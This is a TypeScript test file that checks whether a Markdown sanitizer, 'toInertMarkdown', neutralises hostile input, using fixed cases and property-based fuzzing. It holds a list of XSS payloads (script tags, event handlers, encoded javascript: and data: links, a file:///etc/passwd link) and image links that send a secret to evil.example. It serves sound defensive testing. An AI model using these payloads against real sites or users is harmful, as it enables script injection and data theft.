import fc from "fast-check";
import { Lexer, type Token, walkTokens } from "marked";
import { describe, expect, test } from "vitest";
import { toFence, toInertLine, toInertMarkdown } from "./inert-markdown";

/** What a reader of Markdown would run, fetch, or follow elsewhere than to the web. */
function dangersIn(markdown: string): string[] {
  const found: string[] = [];
  const look = (token: Token) => {
    if (token.type === "html") found.push(token.raw);
    if (token.type === "image") found.push(token.raw);
    if (token.type === "link" && !/^(https?:\/\/|mailto:|#)/i.test(token.href)) found.push(token.raw);
  };
  void walkTokens([...Lexer.lex(markdown)], look);
  return found;
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "</p><svg onload=alert(1)>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<?php echo 1 ?>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](\njavascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "[y]\n\n[y]:\n<javascript:alert(1)>",
  "![x](https://evil.example/?d=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x][y]\n\n[y]: https://evil.example/?d=secret",
  "[![x](https://evil.example/a)](https://evil.example/b)",
  "> ```\n<script>alert(1)</script>\n```",
  "- a\n  ```\n<script>alert(1)</script>\n  ```",
  "    ```\n<script>alert(1)</script>",
  "# a `\n<script>x</script> `b`",
  "| ` | <script>x</script> ` |\n|---|---|\n| a | b |",
  "a ` b\n\n`<script>`",
  "\\`<script>alert(1)</script>`",
  "<https://x`><script>`",
  '```"><script>alert(1)</script>\nx\n```',
];

describe("RN-16 Markdown that is exported", () => {
  test.each(HOSTILE)("RN-16 does nothing when it is opened: %j", (text) => {
    expect(dangersIn(toInertMarkdown(text))).toEqual([]);
  });

  test("RN-16 does nothing when it is opened, whatever its pieces and their order", () => {
    const piece = fc.constantFrom(
      ...HOSTILE,
      ...["`", "``", "```", "~~~", "\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "|", "\\", "<", ">"],
      ...["](", "]:", "![", "[a]", "<b", "</b>", "x", "# ", "---", "javascript:", "&lt;", "$", "`<i>`", "\r"],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        expect(dangersIn(toInertMarkdown(pieces.join("")))).toEqual([]);
      }),
      { numRuns: 3_000 },
    );
  });

  test.each([
    "Plain words, 1 < 2 and a <- b.",
    "A `Map<string, number>` and ``a ` b`` in one line.",
    "```html\n<div>kept</div>\n```\nafter",
    "[Parley](https://example.com/a_(b)) and <https://example.com> and [mail](mailto:a@example.com)",
    "| a | b |\n|---|---|\n| `<x>` | 2 |",
    "1. one\n2. two\n   - three",
  ])("stays as it is where it is harmless: %j", (text) => {
    expect(toInertMarkdown(text)).toBe(text);
  });

  test("keeps code of a list readable, outside of the list", () => {
    const text = "1. Write\n   ```ts\n   const a: Set<string>;\n     b();\n   ```\n2. Run";
    expect(toInertMarkdown(text)).toBe("1. Write\n```ts\nconst a: Set<string>;\n  b();\n```\n2. Run");
  });

  test("never lets code end its own block", () => {
    for (const code of ["```\n<script>", "````", "a\n`````\nb", ""]) {
      const [token, ...others] = Lexer.lex(toFence(code));
      expect(token).toMatchObject({ type: "code", text: code });
      expect(others).toEqual([]);
    }
  });

  test.each([
    ["tildes", `${"~".repeat(64_000)}\``],
    ["backticks", `${"`".repeat(64_000)} \``],
    ["letters of a language", `~~~${"a".repeat(64_000)}\``],
    ["at signs", `${"@".repeat(64_000)} \`a\``],
    ["code spans", "`a` ".repeat(16_000)],
    ["destinations", "](".repeat(32_000)],
    ["addresses", "<https://".repeat(7_000)],
    ["backticks in code", `\`\`\`\n${"a`b ".repeat(200_000)}`],
  ])("RN-16 takes no longer for %s that go on and on", (_, text) => {
    expect(toInertMarkdown(text).length).toBeGreaterThanOrEqual(text.length);
  });

  test("RN-16 takes a title or a name as words alone", () => {
    const words = fc.array(fc.constantFrom(...HOSTILE, "`", "*", "_", "#", "\n", "|", "<", "]", "$"), {
      maxLength: 8,
    });
    fc.assert(
      fc.property(words, (pieces) => {
        const tokens = Lexer.lex(`# ${toInertLine(pieces.join(""))}`);
        const [heading] = tokens;
        const kinds = heading?.type === "heading" ? (heading.tokens ?? []).map(({ type }) => type) : [];
        expect(tokens).toHaveLength(1);
        // An address that stands there by itself is made a link by some readers; it leads where it says.
        expect(kinds.filter((kind) => !["text", "escape", "link"].includes(kind))).toEqual([]);
        expect(dangersIn(tokens[0]?.raw ?? "")).toEqual([]);
      }),
    );
  });
});
